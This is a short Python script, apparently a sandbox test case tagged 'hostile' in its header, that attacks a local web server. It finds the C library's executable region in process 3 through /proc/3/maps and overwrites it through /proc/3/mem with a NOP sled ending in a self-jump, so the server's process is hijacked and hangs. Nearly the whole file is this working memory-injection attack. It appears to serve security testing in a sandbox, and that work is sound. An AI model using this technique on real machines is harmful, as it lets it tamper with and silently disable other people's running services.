# /// hostile
# attack = "The memory of the web server of its own network is written over, so that a process works that nobody sees."
# network = "demo"
# reason = "cpu"
# machine = "amd64"
# contains = "written over"
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import re
import socket
import time

# Once it has answered and rests again.
with socket.create_connection(("127.0.0.11", 80)) as one:
    one.sendall(b"GET / HTTP/1.0\r\n\r\n")
    while one.recv(65536):
        pass
time.sleep(0.5)
# Over all code of the C library: wherever the server is next, it slides to a jump to itself.
with open("/proc/3/maps") as maps:
    start, end = re.search(r"^(\w+)-(\w+) r-xp .*/libc[.-]", maps.read(), re.M).groups()
with open("/proc/3/mem", "r+b", buffering=0) as memory:
    memory.seek(int(start, 16))
    memory.write(b"\x90" * (int(end, 16) - int(start, 16) - 2) + b"\xeb\xfe")
print("written over", flush=True)
one = socket.create_connection(("127.0.0.11", 80))
time.sleep(60)
